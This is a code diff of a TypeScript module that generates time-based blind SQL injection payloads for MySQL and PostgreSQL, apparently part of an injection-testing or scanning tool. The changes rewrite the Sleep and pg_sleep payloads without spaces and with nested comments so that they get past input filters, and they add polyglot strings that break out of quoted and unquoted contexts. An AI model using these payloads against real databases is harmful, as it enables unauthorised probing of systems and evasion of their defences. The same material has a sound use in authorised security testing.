@@ -195,25 +195,24 @@ const number = (v: string): string => (/^-?\d+(\.\d+)?$/.test(v) ? v : '1')
 /** Behind a number the comment hides the first of the two, behind text the line comment hides the second. */
 const followed = (v: string, statement: string): string => `${number(v)}/*';${statement}-- */;${statement}-- -`
 export const isName = (v: string): boolean => /^[A-Za-z_][\w.]{0,40}$/.test(v)
-const mysql = (s: string): string => `(Select 0 From(Select Sleep(${s}))x)`
-/** Without spaces, which filters refuse as well. */
-const unspaced = (s: string): string => `(Select(0)From(Select(Sleep(${s})))x)`
+/** Without spaces, which filters refuse where nothing else shows. */
+const mysql = (s: string): string => `(Select(0)From(Select(Sleep(${s})))x)`
 
 export const WAITING: readonly Waiting[] = [
   {
     dbms: 'MySQL',
     technique: 'time',
     fits: ANY,
-    with: (v, s) => `${v || '1'} Xor${mysql(s)}/*'Xor${mysql(s)}Xor'"Xor${mysql(s)}Xor"*/`,
+    with: (v, s) => `${v || '1'}-${mysql(s)}/*'Xor${mysql(s)}Xor'"Xor${mysql(s)}Xor"*/`,
   },
   {
     dbms: 'MySQL',
     technique: 'time',
     fits: UNQUOTED,
-    with: (v, s) => `${v || '1'}-${unspaced(s)}`,
+    with: (v, s) => `${v || '1'}-${mysql(s)}`,
   },
-  { dbms: 'MySQL', technique: 'time', fits: ['text'], quoted: true, with: (v, s) => `${v}'Xor${unspaced(s)}Xor'` },
-  { dbms: 'MySQL', technique: 'time', fits: ['text'], quoted: true, with: (v, s) => `${v}"Xor${unspaced(s)}Xor"` },
+  { dbms: 'MySQL', technique: 'time', fits: ['text'], quoted: true, with: (v, s) => `${v}'Xor${mysql(s)}Xor'` },
+  { dbms: 'MySQL', technique: 'time', fits: ['text'], quoted: true, with: (v, s) => `${v}"Xor${mysql(s)}Xor"` },
   {
     dbms: 'PostgreSQL',
     technique: 'time',
@@ -224,9 +223,10 @@ export const WAITING: readonly Waiting[] = [
     dbms: 'PostgreSQL',
     technique: 'time',
     fits: ANY,
-    with: (v, s) => `${number(v)}-(Select 0 From pg_sleep(${s}))/*'||(Select '' From pg_sleep(${s}))||'*/`,
+    // Comments stand within comments there.
+    with: (v, s) => `${number(v)}-(Select(0*Count(pg_sleep(${s}))))/*'||(Select('')From/**/pg_sleep(${s}))||'*/`,
   },
-  { dbms: 'PostgreSQL', technique: 'time', fits: ['name'], with: (v, s) => `${v},(Select 1 From pg_sleep(${s}))` },
+  { dbms: 'PostgreSQL', technique: 'time', fits: ['name'], with: (v, s) => `${v},(Select(1)From/**/pg_sleep(${s}))` },
   {
     dbms: 'Oracle',
     technique: 'time',
